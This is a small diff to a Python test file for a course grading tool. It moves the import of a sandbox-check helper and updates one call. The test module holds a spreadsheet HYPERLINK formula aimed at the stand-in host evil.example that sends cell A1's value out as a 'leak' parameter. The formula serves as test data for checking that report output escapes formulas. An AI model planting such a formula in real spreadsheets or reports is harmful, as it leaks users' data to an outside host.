@@ -25,6 +25,7 @@ from course_helpers.grading.report import (
     write_csv,
     write_json,
 )
+from course_helpers.grading.sandbox import sandbox_problem
 from course_helpers.grading.submissions import Submission
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
@@ -186,7 +187,7 @@ def test_a_formula_named_exception_is_escaped_end_to_end(
     path.parent.mkdir(parents=True)
     nbformat.write(notebook, path)
     out, summary_path = tmp_path / "report.csv", tmp_path / "summary.json"
-    flags = [] if grade_cli.sandbox_problem() is None else ["--no-sandbox"]
+    flags = [] if sandbox_problem() is None else ["--no-sandbox"]
     code = grade_cli.main(
         [str(tmp_path / "class"), "--out", str(out), "--json", str(summary_path), "-q", *flags]
     )
